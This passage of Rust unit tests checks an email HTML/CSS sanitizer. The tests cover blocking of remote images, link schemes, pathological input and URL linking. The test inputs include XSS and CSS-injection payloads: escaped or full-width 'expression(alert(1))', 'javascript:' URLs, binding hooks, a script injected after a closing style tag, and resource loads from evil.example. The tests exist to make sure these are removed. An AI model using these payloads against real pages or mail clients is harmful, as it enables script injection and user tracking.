        let out = sanitize_html(r#"<p style="color: red; background: url(cid:nope)">x</p>"#, &options);
        assert_eq!(out.html, r#"<p style="color: red;">x</p>"#);
    }

    #[test]
    fn remote_images_and_css_urls_load_only_when_allowed() {
        let input = concat!(
            r#"<img src="https://img.example/a.png" srcset="https://img.example/a2.png 2x" alt="A">"#,
            r#"<table background="http://img.example/bg.png"><tr><td>t</td></tr></table>"#,
            r#"<p style="background-image: url(https://img.example/p.png); color: red">p</p>"#,
            "<style>.x { background: url('https://img.example/s.png') }</style>",
            r#"<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">"#,
            r#"<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg">"#,
            r#"<img src="/relative.png" alt="rel">"#,
        );
        let blocked = clean(input, false);
        assert!(blocked.blocked_remote);
        assert!(!blocked.html.contains("img.example"), "{}", blocked.html);
        assert!(blocked.html.contains(r#"<img alt="A">"#), "{}", blocked.html);
        assert!(blocked.html.contains(r#"<p style="color: red;">p</p>"#), "{}", blocked.html);
        assert!(blocked.html.contains(r#"<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">"#));
        assert!(blocked.html.contains(r#"<img alt="svg">"#) && blocked.html.contains(r#"<img alt="rel">"#));

        let allowed = clean(input, true);
        assert!(!allowed.blocked_remote);
        for kept in [
            r#"<img src="https://img.example/a.png" srcset="https://img.example/a2.png 2x" alt="A">"#,
            r#"<table background="http://img.example/bg.png">"#,
            "background-image: url(https://img.example/p.png)",
            "<style>.x{background: url('https://img.example/s.png');}</style>",
        ] {
            assert!(allowed.html.contains(kept), "{kept:?} missing from {}", allowed.html);
        }
        assert!(!allowed.html.contains("svg+xml") && !allowed.html.contains("relative.png"));

        let plain = clean("<p>No images here</p>", false);
        assert!(!plain.blocked_remote);
    }

    #[test]
    fn links_keep_only_web_and_mail_schemes_and_open_in_a_new_tab() {
        let out = clean(
            concat!(
                r#"<a href="mailto:bob@example.org">mail</a>"#,
                r#"<a href="http://example.org/?a=1&amp;b=2">web</a>"#,
                r#"<a href="cid:part">cid</a><a href="data:image/png;base64,AA==">data</a>"#,
                r##"<a href="#top">anchor</a><a href="/settings/delete">relative</a><a href="ftp://x.example/">ftp</a>"##,
            ),
            false,
        );
        let blank = r#"target="_blank" rel="noopener noreferrer""#;
        assert!(out.html.contains(&format!(r#"<a href="mailto:bob@example.org" {blank}>mail</a>"#)), "{}", out.html);
        assert!(out.html.contains(&format!(r#"<a href="http://example.org/?a=1&amp;b=2" {blank}>web</a>"#)));
        for label in ["cid", "data", "anchor", "relative", "ftp"] {
            assert!(out.html.contains(&format!("<a {blank}>{label}</a>")), "{label}: {}", out.html);
        }
    }

    #[test]
    fn css_escapes_comments_and_odd_syntax_do_not_hide_dangerous_parts() {
        let cases = [
            r"width: \65 xpression(alert(1))",
            r"width: \000065xpression(alert(1))",
            r"width: ex\p\r\65 \s\s\i\o\n(alert(1))",
            "width: ex/* */pression(alert(1))",
            "width: ｅｘｐｒｅｓｓｉｏｎ(alert(1))",
            r"background: \75\72\6c(https://evil.example/a.png)",
            r"background: URL( 'https://evil.example/a.png' )",
            "background: url(/*x*/https://evil.example/a.png)",
            "background-image: image-set('https://evil.example/a.png' 1x)",
            "background-image: -webkit-image-set(url(https://evil.example/a.png) 1x)",
            "background: url(javascript:alert(1))",
            "-ms-behavior: url(x.htc)",
            r"-moz-bin\64 ing: url(x.xml)",
            "position: fixed",
            "position: ABSOLUTE !important",
        ];
        for case in cases {
            let html = format!(r#"<p style="color: red; {case}; margin: 1px">x</p>"#);
            let out = clean(&html, false).html;
            assert_eq!(out, r#"<p style="color: red; margin: 1px;">x</p>"#, "{case}");
            let sheet = clean(&format!("<style>p {{ color: red; {case} }}</style>"), false).html;
            assert_eq!(sheet, "<style>p{color: red;}</style>", "{case}");
        }
        // Structure tricks: a string cut by a newline, an escaped delimiter, an unclosed parenthesis.
        for sheet in [
            "p { content: \"a\n; background: url(https://evil.example/x) }",
            r"p { x: a\; background: url(https://evil.example/x) }",
            "p { color: red } q { background: url(https://evil.example/x",
            "@media screen { p { background: url(https://evil.example/x) } }",
            "@font-face { font-family: F; src: url(https://evil.example/f.woff) }",
            "@namespace url(https://evil.example/);",
            "@document url-prefix() { p { color: red } }",
            "p { color: red } </style><script>alert(1)</script>",
        ] {
            let out = clean(&format!("<style>{sheet}</style>"), false);
            assert!(!out.html.contains("evil.example") && !out.html.contains("<script"), "{sheet}: {}", out.html);
        }
        let kept = clean("<style><!-- @media (max-width: 600px) { .c { width: 100% !important } } --></style>", true);
        assert_eq!(kept.html, "<style>@media (max-width: 600px){.c{width: 100% !important;}}</style>");
        // Nesting deeper than any mail needs is dropped without recursion trouble.
        let deep = format!("<style>{}p{{color:red}}{}</style>", "@media x{".repeat(100_000), "}".repeat(100_000));
        assert!(!clean(&deep, false).html.contains("color"));
    }

    #[test]
    fn every_prefix_of_hostile_and_non_ascii_input_is_handled() {
        let css = "p{font-family:'Ｍｓ ゴシック',\"ü\"}/* é */q{color:\\ä;content:'\\\n'}@media é{r{x:ö}}";
        for (i, _) in css.char_indices() {
            let mut pass =
                Pass { options: &SanitizeOptions { allow_remote: false, cid_url: &no_cid }, blocked_remote: false };
            let _ = pass.stylesheet(&css[..i]);
            let _ = pass.declarations(&css[i..]);
        }
        for (i, _) in HOSTILE.char_indices().step_by(5) {
            let out = clean(&HOSTILE[..i], false).html.to_ascii_lowercase();
            assert!(!out.contains("<script") && !out.contains("javascript:") && !has_event_handler(&out), "{out}");
        }
    }

    #[test]
    fn pathological_inputs_take_linear_time() {
        let started = std::time::Instant::now();
        let many_urls = format!(r#"<p style="background: {}">x</p>"#, "url(".repeat(50_000));
        assert_eq!(clean(&many_urls, true).html, "<p>x</p>");
        let _ = clean(&format!("<style>p{{{}}}</style>", "a:url(x;".repeat(50_000)), true);
        let _ = clean(&format!("<style>{}</style>", "/*".repeat(50_000)), true);
        let _ = text_to_html(&format!("http://a.example/{}", ")".repeat(200_000)));
        let _ = text_to_html(&"http://a.example/,".repeat(50_000));
        let _ = text_to_html(&"a@b@".repeat(50_000));
        let _ = clean(&"<div><font>".repeat(20_000), true);
        let _ = clean(&(0..20_000).map(|i| format!("<div><font size={i}></div>x")).collect::<String>(), true);
        assert!(started.elapsed() < std::time::Duration::from_secs(20), "{:?}", started.elapsed());
    }

    #[test]
    fn text_to_html_escapes_and_links_urls_and_addresses() {
        let text = "Hi <script>alert('x')</script> & bye\n\
                    See https://example.org/a?b=1&c=2. Or (http://example.org/wiki/Foo_(bar)), \
                    <https://example.com/x>\nMail bob.smith+tag@example.co.uk, not @foo or a@b or x@y.z1";
        let html = text_to_html(text);
        let attrs = r#"target="_blank" rel="noopener noreferrer""#;
        let expected = format!(
            "Hi &lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; bye\n\
             See <a href=\"https://example.org/a?b=1&amp;c=2\" {attrs}>https://example.org/a?b=1&amp;c=2</a>. \
             Or (<a href=\"http://example.org/wiki/Foo_(bar)\" {attrs}>http://example.org/wiki/Foo_(bar)</a>), \
             &lt;<a href=\"https://example.com/x\" {attrs}>https://example.com/x</a>&gt;\n\
             Mail <a href=\"mailto:bob.smith+tag@example.co.uk\" {attrs}>bob.smith+tag@example.co.uk</a>, \
             not @foo or a@b or x@y.z1"
        );
        assert_eq!(html, expected);
        assert_eq!(text_to_html("http:// and xhttps://a.example"), "http:// and xhttps://a.example");
        assert_eq!(text_to_html(""), "");
        assert_eq!(text_to_html("a\r\n\tb"), "a\r\n\tb");
    }

    /// The `mailto:` targets of the links in `html`, in order.
    fn mailto_targets(html: &str) -> Vec<&str> {
        html.match_indices("href=\"mailto:")
            .map(|(i, m)| &html[i + m.len()..])
            .map(|s| &s[..s.find('"').unwrap_or(s.len())])
            .collect()
    }

    #[test]
    fn an_address_in_czech_quotation_marks_is_linked_without_them() {
        let html = text_to_html("Napište na „jan@firma.cz“.");
        assert_eq!(mailto_targets(&html), ["jan@firma.cz"]);
        assert!(html.starts_with("Napište na „<a "), "{html}");
        assert!(html.ends_with(">jan@firma.cz</a>“."), "{html}");
    }

    #[test]
    fn an_address_whose_local_part_holds_letters_beyond_ascii_is_linked_whole() {
        // RFC 6531 addresses: a mail client links the whole local part, not its ASCII tail.
        let html = text_to_html("caféx@example.com and žluťoučký.kůň@příklad.cz, (ann@example.org)");
        assert_eq!(mailto_targets(&html), ["caféx@example.com", "žluťoučký.kůň@příklad.cz", "ann@example.org"]);
    }

    #[test]
    fn multi_byte_characters_around_at_signs_never_split_a_character() {
        for text in ["é@example.com", "a@é.cz", "@é", "é@", "„@“", "x„@“y.cz", "ü.@ü.ü", "😀@😀.😀", "\u{301}@a.cz"]
        {
            let html = text_to_html(text);
            assert!(html.contains('@'), "{text}: {html}");
        }
    }
}
